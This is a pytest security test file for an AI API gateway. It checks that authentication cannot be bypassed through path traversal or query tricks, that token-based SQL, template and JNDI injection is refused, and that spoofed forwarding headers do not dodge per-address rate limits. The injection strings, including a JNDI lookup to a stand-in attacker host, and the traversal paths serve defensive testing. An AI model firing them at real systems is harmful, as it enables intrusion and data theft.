"""Attacks on who calls, at a running gateway: what others fell for, and lies about addresses."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any, Final

import pytest
from bad_tokens import bad_token
from house import LEAN, House, build, chat
from raw_http import connect, head

from gateway.wire.formats import ROUTES, Route

if TYPE_CHECKING:
    from collections.abc import Iterator

    import httpx

GUESSER, GOOD = "203.0.113.9", "198.51.100.7"
CHAT: Final = "/v1/chat/completions"
CONTROL: Final = ("metrics", "whoami", "policy", "audit/events", "audit/events/x", "audit/stream")
PROXIED: Final = {
    "listen: {": "listen: {trusted_proxies: [127.0.0.1/32], ",
    "identity:\n": "identity:\n  max_failures: 4\n",
}


@pytest.fixture(scope="module")
def proxied(tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
    """A gateway behind a proxy that takes four refused tokens a minute from an address."""
    with build(tmp_path_factory.mktemp("proxied"), edit=PROXIED, policy=LEAN) as house:
        yield house


def send(house: House, token: str, source: str, **more: str) -> httpx.Response:
    headers = {"authorization": f"Bearer {token}", "x-forwarded-for": source, **more}
    return house.client().post(CHAT, json=chat("Hi"), headers=headers)


def recorded(house: House, answer: httpx.Response) -> dict[str, Any]:
    return house.records_of(answer.headers["x-gateway-event"])[-1]


# What others fell for.


@pytest.mark.parametrize("route", ROUTES, ids=lambda route: route.path.decode())
def test_tokens_are_not_optional_on_the_data_plane(house: House, route: Route) -> None:
    """agentgateway #2798: identity was optional unless somebody said otherwise."""
    path = route.path.decode().replace("{model}", "demo-small")
    (method,) = route.methods
    body = chat("Hi", max_tokens=9) if method == "POST" else None
    assert house.client().request(method, path, json=body).status_code == 401


@pytest.mark.parametrize("path", CONTROL)
def test_tokens_are_not_optional_on_the_control_plane(house: House, path: str) -> None:
    assert house.client().get(f"/gateway/{path}").status_code == 401


@pytest.mark.parametrize(
    "target",
    [
        "/gateway/whoami?/gateway/health/live",
        "/gateway/whoami?path=/gateway/health/ready",
        "/gateway/health/live/../whoami",
        "/gateway/health/live%2f..%2fwhoami",
        "/gateway/health/live/whoami",
        "/gateway/health/live;/whoami",
        "/gateway//whoami",
        "/v1/models?/gateway/health/live",
        "/v1/models?x=/gateway/console/",
        "http://gateway.test/gateway/health/live/../../v1/models",
    ],
)
def test_exemption_matched_in_a_query_or_a_longer_path(house: House, target: str) -> None:
    """CVE-2025-54576: a path that needs no token was looked for in the whole target."""
    with connect(house.url) as connection:
        connection.send(head(target, "", method="GET"))
        answer = connection.answer()
    assert answer is not None
    assert answer.status in {400, 401}


@pytest.mark.parametrize(
    "token",
    [
        "' OR '1'='1",
        "x'); DROP TABLE records; --",
        "e30.e30.AAAA' UNION SELECT secret FROM keys --",
        "{{7*7}}",
        "${jndi:ldap://evil.test/a}",
        "%s%s%n",
    ],
)
@pytest.mark.parametrize("name", ["authorization", "x-api-key"])
def test_sql_injection_through_the_token_in_the_error_path(
    house: House, name: str, token: str
) -> None:
    """CVE-2026-42208: a token reached a database before anything of it had been verified."""
    value = f"Bearer {token}" if name == "authorization" else token
    answer = house.client().post(CHAT, json=chat("Hi"), headers={name: value})
    assert answer.status_code == 401
    record = recorded(house, answer)
    assert record["error"].startswith("unauthenticated: ")
    assert record["actor"] is None
    assert token not in str(record)
    assert "49" not in record["error"]
    good = house.client("analyst").post(CHAT, json=chat("Hi"))
    assert recorded(house, good)["status"] == 200  # every table is still there


# Lies about addresses, and what is counted by them.


def test_guessing_ends_for_one_address_and_for_no_other(proxied: House) -> None:
    known = proxied.token("analyst", subject="known")
    assert send(proxied, known, GUESSER).status_code == 200
    for _ in range(4):
        assert send(proxied, bad_token(proxied, "signature"), GUESSER).status_code == 401
    fresh = proxied.token("analyst", subject="fresh")
    answer = send(proxied, fresh, GUESSER)
    assert answer.status_code == 401
    record = recorded(proxied, answer)
    assert record["error"] == "unauthenticated: too many failures: the token was not read"
    assert record["source"]["ip"] == GUESSER
    assert send(proxied, known, GUESSER).status_code == 200
    assert send(proxied, fresh, GOOD).status_code == 200
    # What a guesser writes before the proxy's entry is not where it comes from.
    other = proxied.token("analyst", subject="other")
    assert send(proxied, other, f"{GOOD}, {GUESSER}").status_code == 401
    whoami = {"authorization": f"Bearer {other}", "x-forwarded-for": GUESSER}
    assert proxied.client().get("/gateway/whoami", headers=whoami).status_code == 401


def test_spoofed_address_of_who_is_no_proxy(house: House) -> None:
    answer = send(house, house.token("analyst"), GUESSER, **{"x-real-ip": GUESSER})
    assert recorded(house, answer)["source"]["ip"] == "127.0.0.1"
    denied = house.client().get("/gateway/whoami", headers={"x-forwarded-for": GUESSER})
    assert recorded(house, denied)["source"]["ip"] == "127.0.0.1"


# Who acts for whom.


def test_the_actors_of_a_token_are_recorded_and_lend_it_nothing(house: House) -> None:
    act = {"sub": "agent-7", "roles": ["auditor"], "act": {"sub": "robot", "iss": "https://two/"}}
    client = house.client("analyst", act=act)
    record = recorded(house, client.post(CHAT, json=chat("Hi")))
    assert record["actor"]["subject"] == "ada"
    assert record["actor"]["roles"] == ["analyst"]
    assert record["actor"]["act"] == ["agent-7", "https://two/ robot"]
    denied = client.get("/gateway/audit/events")
    assert denied.status_code == 403
    assert recorded(house, denied)["actor"]["act"] == ["agent-7", "https://two/ robot"]


def test_an_actor_that_cannot_be_recorded_is_refused(house: House) -> None:
    answer = house.client("analyst", act={"sub": ["agent"]}).post(CHAT, json=chat("Hi"))
    assert answer.status_code == 401
    assert recorded(house, answer)["error"].startswith("unauthenticated: actor: ")
